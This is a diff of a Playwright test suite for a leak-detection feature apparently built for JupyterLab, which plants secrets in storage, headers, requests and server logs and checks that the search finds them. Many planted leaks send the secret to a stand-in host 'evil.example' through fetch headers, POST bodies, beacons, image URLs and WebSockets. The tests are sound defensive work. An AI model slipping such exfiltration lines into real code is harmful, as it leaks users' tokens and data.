@@ -9,7 +9,7 @@ import { textsOfUndo } from '../../leaks/pagetexts';
 import { RecordedBrowser } from '../../leaks/recordedbrowser';
 import type { IFinding, ISecret } from '../../leaks/search';
 import { findSecrets, inWords } from '../../leaks/search';
-import type { IText, Place } from '../../leaks/text';
+import type { Place } from '../../leaks/text';
 
 /** A leak that is planted. */
 interface ILeak<Target> {
@@ -38,10 +38,6 @@ const IN_PAGE: readonly ILeak<Page>[] = [
     const frame = document.createElement('iframe');
     document.body.append(frame);
     frame.contentDocument?.body.append(secret);
-  }),
-  inPage('an attribute', 'attribute', secret => {
-    document.body.append(document.createElement('i'));
-    document.body.lastElementChild?.setAttribute('data-note', secret);
   }),
   inPage('a custom property of CSS', 'attribute', secret => {
     const element = document.createElement('i');
@@ -82,9 +78,6 @@ const IN_PAGE: readonly ILeak<Page>[] = [
   inPage('localStorage', 'localStorage', secret => {
     Object.assign(localStorage, { planted: secret });
   }),
-  inPage('a key of localStorage', 'localStorage', secret =>
-    localStorage.setItem(secret, '')
-  ),
   inPage('localStorage, for a moment', 'localStorage', secret => {
     localStorage.setItem('moment', secret);
     localStorage.removeItem('moment');
@@ -92,22 +85,14 @@ const IN_PAGE: readonly ILeak<Page>[] = [
   inPage('sessionStorage', 'sessionStorage', secret =>
     sessionStorage.setItem('planted', secret)
   ),
-  inPage(
-    'IndexedDB, as bytes in an object',
-    'IndexedDB',
-    secret =>
-      new Promise<void>(resolve => {
-        const opening = indexedDB.open('planted');
-        opening.onupgradeneeded = () => {
-          const notes = opening.result.createObjectStore('notes');
-          notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
-        };
-        opening.onsuccess = () => {
-          opening.result.close();
-          resolve();
-        };
-      })
-  ),
+  inPage('IndexedDB, as bytes in an object', 'IndexedDB', secret => {
+    const opening = indexedDB.open('planted');
+    opening.onupgradeneeded = () => {
+      const notes = opening.result.createObjectStore('notes');
+      notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
+    };
+    opening.onsuccess = () => opening.result.close();
+  }),
   inPage('Cache Storage', 'Cache Storage', async secret => {
     const cache = await caches.open('planted');
     await cache.put('/planted', new Response(`{"note": "${secret}"}`));
@@ -134,189 +119,81 @@ const IN_PAGE: readonly ILeak<Page>[] = [
       throw new Error(secret);
     });
   }),
-  inPage(
-    'the console of a worker',
-    'console',
-    secret =>
-      new Promise<void>(resolve => {
-        const code =
-          'onmessage = ({ data }) => { console.info(data); postMessage(0); }';
-        const url = URL.createObjectURL(new Blob([code]));
-        const worker = new Worker(url);
-        worker.onmessage = () => resolve();
-        worker.postMessage(secret);
-      })
-  ),
-  inPage(
-    'a message to another origin',
-    'message',
-    secret =>
-      new Promise<void>(resolve => {
-        const frame = document.createElement('iframe');
-        frame.src = 'http://evil.example/frame';
-        frame.onload = () => {
-          frame.contentWindow?.postMessage({ secret }, '*');
-          resolve();
-        };
-        document.body.append(frame);
-      })
-  ),
+  inPage('the console of a worker', 'console', secret => {
+    const code = 'onmessage = ({ data }) => console.info(data)';
+    const worker = new Worker(URL.createObjectURL(new Blob([code])));
+    worker.postMessage(secret);
+  }),
+  inPage('a message to another origin', 'message', secret => {
+    const frame = document.createElement('iframe');
+    frame.src = 'http://evil.example/frame';
+    frame.onload = () => frame.contentWindow?.postMessage({ secret }, '*');
+    document.body.append(frame);
+  }),
   inPage('a broadcast', 'message', secret =>
     new BroadcastChannel('planted').postMessage({ secret })
   ),
   inPage('a dialog', 'dialog', secret => alert(secret)),
-  {
-    name: 'a download',
-    found: ['download'],
-    plant: async (page, secret) => {
-      const downloaded = page.waitForEvent('download');
-      await page.evaluate(secret => {
-        const link = document.createElement('a');
-        link.download = 'planted.txt';
-        link.href = URL.createObjectURL(new Blob([secret]));
-        link.click();
-      }, secret);
-      await downloaded;
-    }
-  },
-  inPage(
-    'the address of a picture of another origin',
-    'URL',
-    secret =>
-      new Promise<void>(resolve => {
-        const picture = new Image();
-        picture.onerror = () => resolve();
-        picture.src = `https://evil.example/?${encodeURIComponent(secret)}`;
-      })
-  ),
-  inPage('the host of an address', ['URL', 'header'], async secret => {
-    const part = secret.slice(-20);
-    await fetch(`http://${part}.evil.example/`, { mode: 'no-cors' });
+  inPage('a download', 'download', secret => {
+    const link = document.createElement('a');
+    link.download = 'planted.txt';
+    link.href = URL.createObjectURL(new Blob([secret]));
+    link.click();
   }),
-  inPage(
-    'the header Authorization, to another origin',
-    'header',
-    async secret => {
-      const headers = { Authorization: `token ${secret}` };
-      await fetch('http://evil.example/', { headers });
-    }
-  ),
-  inPage(
-    'the header Authorization, to another origin by https',
-    'header',
-    async secret => {
-      const headers = { Authorization: `token ${secret}` };
-      await fetch('https://evil.example/', { headers });
-    }
-  ),
-  inPage('the header Authorization, in another way', 'header', async secret => {
-    const headers = { Authorization: `Basic ${btoa(`me:${secret}`)}` };
-    await fetch('http://evil.example/', { headers });
+  inPage('the address of a picture of another origin', 'URL', secret => {
+    new Image().src = `https://evil.example/?${encodeURIComponent(secret)}`;
   }),
-  inPage('Referer', 'Referer', async secret => {
-    await fetch('http://evil.example/', {
+  inPage('the host of an address', ['URL', 'header'], secret =>
+    fetch(`http://${secret.slice(-20)}.evil.example/`, { mode: 'no-cors' })
+  ),
+  inPage('the header Authorization, to another origin', 'header', secret =>
+    fetch('https://evil.example/', {
+      headers: { Authorization: `token ${secret}` }
+    })
+  ),
+  inPage('Referer', 'Referer', secret =>
+    fetch('http://evil.example/', {
       mode: 'no-cors',
       referrer: `/?${encodeURIComponent(secret)}`,
       referrerPolicy: 'unsafe-url'
-    });
-  }),
-  inPage('a body, as text', 'body', async body => {
-    await fetch('http://evil.example/', { method: 'POST', body });
-  }),
-  inPage('a body by https, as JSON', 'body', async secret => {
-    const body = JSON.stringify({ secret });
-    await fetch('https://evil.example/', { method: 'POST', body });
-  }),
-  inPage('a body, as a file in a form', 'body', async secret => {
+    })
+  ),
+  inPage('a body', 'body', body =>
+    fetch('http://evil.example/', { method: 'POST', body })
+  ),
+  inPage('a body by https, as a file in a form', 'body', secret => {
     const body = new FormData();
     body.append('file', new Blob([secret]), 'file.bin');
-    await fetch('http://evil.example/', { method: 'POST', body });
+    void fetch('https://evil.example/', { method: 'POST', body });
   }),
-  inPage('a body, as bytes', 'body', async secret => {
-    const body = new TextEncoder().encode(secret);
-    await fetch('http://evil.example/', { method: 'POST', body });
-  }),
-  inPage('a body, as the field of a form', 'body', async secret => {
-    const body = new URLSearchParams({ secret });
-    await fetch('http://evil.example/', { method: 'POST', body });
-  }),
-  {
-    name: 'a beacon',
-    found: ['body'],
-    plant: async (page, secret) => {
-      const sent = page.waitForRequest('http://evil.example/beacon');
-      await page.evaluate(secret => {
-        const body = new Blob([secret]);
-        navigator.sendBeacon('http://evil.example/beacon', body);
-      }, secret);
-      await sent;
-    }
-  },
-  inPage(
-    'a request of a worker',
-    'body',
-    secret =>
-      new Promise<void>(resolve => {
-        const code = `onmessage = async ({ data: body }) => {
-            await fetch('http://evil.example/', { method: 'POST', body });
-            postMessage(0);
-          }`;
-        const worker = new Worker(URL.createObjectURL(new Blob([code])));
-        worker.onmessage = () => resolve();
-        worker.postMessage(secret);
-      })
+  inPage('a beacon', 'body', secret =>
+    navigator.sendBeacon('http://evil.example/', new Blob([secret]))
   ),
-  inPage(
-    'a frame of a WebSocket',
-    'WebSocket',
-    secret =>
-      new Promise<void>(resolve => {
-        const socket = new WebSocket('ws://evil.example/');
-        socket.onopen = () => {
-          socket.send(secret.padEnd(1000));
-          resolve();
-        };
-      })
+  inPage('a request of a worker', 'body', secret => {
+    const code = `onmessage = ({ data: body }) =>
+      fetch('http://evil.example/', { method: 'POST', body })`;
+    const worker = new Worker(URL.createObjectURL(new Blob([code])));
+    worker.postMessage(secret);
+  }),
+  inPage('a frame of a WebSocket', 'WebSocket', secret => {
+    const socket = new WebSocket('ws://evil.example/');
+    socket.onopen = () => socket.send(secret.padEnd(1000));
+  }),
+  inPage('the address of a WebSocket', 'URL', secret => {
+    new WebSocket(`ws://evil.example/?${encodeURIComponent(secret)}`);
+  }),
+  // To the page's own server, which writes down the URL of a request that fails.
+  inPage('the address of a request that fails', ['URL', 'log'], secret =>
+    fetch(`/api/contents/nothing-here?note=${encodeURIComponent(secret)}`)
   ),
-  inPage(
-    'the address of a WebSocket',
-    'URL',
-    secret =>
-      new Promise<void>(resolve => {
-        const url = `ws://evil.example/?${encodeURIComponent(secret)}`;
-        const socket = new WebSocket(url);
-        socket.onopen = () => resolve();
-      })
-  )
-];
-
-/**
- * Leaks of a script in the page to the page's own server, which may write the
- * URL down.
- */
-const TO_SERVER: readonly ILeak<JupyterPage>[] = [
+  inPage('a header', 'header', secret =>
+    fetch('/api/status', { headers: { 'X-Note': secret } })
+  ),
   {
-    name: 'the address of a request that fails, which the server writes down',
-    found: ['URL', 'log'],
-    plant: toServer('api/contents/nothing-here?note=SECRET')
-  },
-  {
-    name: 'a header',
-    found: ['header'],
-    plant: toServer('api/status', { headers: { 'X-Note': 'SECRET' } })
-  },
-  {
-    name: 'a token that is not the page’s',
-    isOfPage: false,
-    found: ['header'],
-    plant: toServer('api/status', {
-      headers: { Authorization: 'token SECRET' }
-    })
-  },
-  {
-    name: 'a body',
-    found: ['body'],
-    plant: toServer('api/status', { method: 'POST', body: 'SECRET' })
+    ...inPage('a token that is not the page’s', 'header', secret =>
+      fetch('/api/status', { headers: { Authorization: `token ${secret}` } })
+    ),
+    isOfPage: false
   }
 ];
 
@@ -326,7 +203,7 @@ const ON_SERVER: readonly ILeak<JupyterPage>[] = [
     name: 'a workspace',
     found: ['workspace'],
     plant: (jupyter, secret) =>
-      send(jupyter, 'PUT', 'lab/api/workspaces/planted', {
+      jupyter.request('lab/api/workspaces/planted', 'PUT', {
         data: { note: secret },
         metadata: { id: 'planted' }
       })
@@ -335,7 +212,7 @@ const ON_SERVER: readonly ILeak<JupyterPage>[] = [
     name: 'the settings',
     found: ['settings'],
     plant: (jupyter, secret) =>
-      send(jupyter, 'PUT', 'lab/api/settings/jupyterlab-api-token:panel', {
+      jupyter.request('lab/api/settings/jupyterlab-api-token:panel', 'PUT', {
         raw: `{ // ${secret}\n }`
       })
   },
@@ -354,7 +231,7 @@ const ON_SERVER: readonly ILeak<JupyterPage>[] = [
     plant: async (jupyter, secret) => {
       const name = 'checkpoint.ipynb';
       await saveNotebook(jupyter, name, secret);
-      await send(jupyter, 'POST', `api/contents/${name}/checkpoints`);
+      await jupyter.request(`api/contents/${name}/checkpoints`, 'POST');
       await saveNotebook(jupyter, name, '');
     }
   },
@@ -371,7 +248,7 @@ const ON_SERVER: readonly ILeak<JupyterPage>[] = [
     name: 'the server’s log',
     found: ['log'],
     plant: (jupyter, secret) =>
-      send(jupyter, 'GET', `api/contents/${encodeURIComponent(secret)}`)
+      jupyter.request(`api/contents/${encodeURIComponent(secret)}`)
   }
 ];
 
@@ -442,7 +319,7 @@ const FORMS: readonly [form: string, write: (secret: string) => string][] = [
   ['a part of it', secret => secret.slice(-15)]
 ];
 
-test.setTimeout(600_000);
+test.setTimeout(240_000);
 
 test(
   'the search finds a leak in each place',
@@ -452,7 +329,19 @@ test(
     const jupyter = await newJupyter({ host, context: recorded.context });
     const { page } = jupyter;
     await recorded.open(jupyter);
-    await jupyter.showPanel();
+    const findAll = async (secrets: readonly ISecret[]) => [
+      ...(await recorded.findInPage(page, secrets)),
+      ...(await recorded.findBehind(secrets))
+    ];
+
+    await test.step('before the panel is opened, JupyterLab’s own token is in all places where it may be, except requests to the Hub', async () => {
+      const value = jupyter.requestToken;
+      const own = { name: 'the page’s token', value, isOfPage: true };
+      expect((await findAll([own])).map(inWords)).toEqual([]);
+      expect(recorded.unneeded()).toEqual(
+        user ? ['the extension asks the Hub with it, which issued it'] : []
+      );
+    });
 
     const secrets: ISecret[] = [];
     const expected: Record<string, readonly string[]> = {};
@@ -475,20 +364,20 @@ test(
       await plant(jupyter, ON_HUB);
     } else {
       await plant(page, IN_PAGE);
-      await plant(jupyter, TO_SERVER);
     }
     // What was reported or is being written may come late.
     await expect(async () => {
-      const findings = [
-        ...(await recorded.findInPage(page, secrets)),
-        ...(await recorded.findBehind(secrets))
-      ];
+      const findings = await findAll(secrets);
       expect(placesOf(findings)).toEqual(expected);
-      expectNoSecret(findings, secrets);
+      // The words on a leak do not leak it.
+      const words = findings.map(inWords).join('\n');
+      const text = { place: 'document', where: '', text: words } as const;
+      expect(findSecrets([text], secrets, () => false)).toEqual([]);
     }).toPass({ timeout: 120_000 });
 
     await test.step('what undo restores', async () => {
       const secret = { name: 'undo', value: newSecret(), isOfPage: true };
+      await jupyter.showPanel();
       const field = jupyter.panel.getByLabel('API path');
       await field.fill(secret.value);
       await field.fill('/api/sessions');
@@ -503,28 +392,19 @@ test(
 
 test(
   'the search finds a leak in each encoding',
-  { tag: '@leaks' },
-  async ({ browser, host }) => {
-    const recorded = await RecordedBrowser.start(browser, host);
-    const page = await recorded.context.newPage();
+  { tag: '@lab-newest' },
+  async ({ host, page }) => {
     await page.goto(host.about.url);
-    const secrets: ISecret[] = [];
-    const expected: string[] = [];
     for (const [form, write] of FORMS) {
-      const name = `form ${secrets.length}`;
-      const value = newSecret();
-      secrets.push({ name, value, isOfPage: true });
-      expected.push(`${name}, ${form}: localStorage, ${name}`);
-      // It is not known to the page except in this form.
-      const text = await page.evaluate(write, value);
-      await page.evaluate(
-        ([name, text]) => localStorage.setItem(name, `before ${text} after`),
-        [name, text]
+      const secret = { name: 'a secret', value: newSecret(), isOfPage: true };
+      const text = `before ${await page.evaluate(write, secret.value)} after`;
+      const found = findSecrets(
+        [{ place: 'document', where: 'text', text }],
+        [secret],
+        () => false
       );
+      expect(found.map(inWords)).toEqual([`a secret, ${form}: document, text`]);
     }
-    const findings = await recorded.findInPage(page, secrets);
-    expect(findings.map(inWords)).toEqual(expected);
-    await recorded.stop();
   }
 );
 
@@ -541,61 +421,14 @@ function inPage(
   };
 }
 
-/**
- * Plant a leak by a script in the page, in a request to its server.
- *
- * @param path - Where it goes; `SECRET` stands for the secret, there and in
- *   what is sent.
- */
-function toServer(
-  path: string,
-  init: {
-    method?: string;
-    body?: string;
-    headers?: Record<string, string>;
-  } = {}
-): (jupyter: JupyterPage, secret: string) => Promise<unknown> {
-  return ({ page, serverUrl }, secret) => {
-    const url = serverUrl + path.replace('SECRET', encodeURIComponent(secret));
-    const { body, headers = {}, method } = init;
-    const filled = Object.entries(headers).map(([name, value]) => [
-      name,
-      value.replace('SECRET', () => secret)
-    ]);
-    return page.evaluate(([url, init]) => fetch(url, init).then(() => null), [
-      url,
-      { method, headers: Object.fromEntries(filled), body: body && secret }
-    ] as const);
-  };
-}
-
-/** Ask the server from outside of the browser. */
-async function send(
-  { requestToken, serverUrl }: JupyterPage,
-  method: string,
-  path: string,
-  content?: object
-): Promise<void> {
-  const response = await fetch(serverUrl + path, {
-    method,
-    headers: {
-      Authorization: `token ${requestToken}`,
-      'Content-Type': 'application/json'
-    },
-    body: content && JSON.stringify(content)
-  });
-  // Nothing is at the URL that is to be in the log.
-  expect([200, 201, 204, 404], path).toContain(response.status);
-}
-
 function saveNotebook(
   jupyter: JupyterPage,
   name: string,
   source: string
-): Promise<void> {
+): Promise<unknown> {
   const cells = [{ cell_type: 'raw', id: 'a', metadata: {}, source }];
   const content = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
-  return send(jupyter, 'PUT', `api/contents/${name}`, {
+  return jupyter.request(`api/contents/${name}`, 'PUT', {
     type: 'notebook',
     format: 'json',
     content
@@ -612,19 +445,6 @@ function placesOf(findings: readonly IFinding[]): Record<string, string[]> {
     }
   }
   return places;
-}
-
-/** Expect that the words on a leak do not leak it. */
-function expectNoSecret(
-  findings: readonly IFinding[],
-  secrets: readonly ISecret[]
-): void {
-  const words = findings.map(inWords).map((text): IText => ({
-    place: 'document',
-    where: 'words',
-    text
-  }));
-  expect(findSecrets(words, secrets, () => false)).toEqual([]);
 }
 
 /**
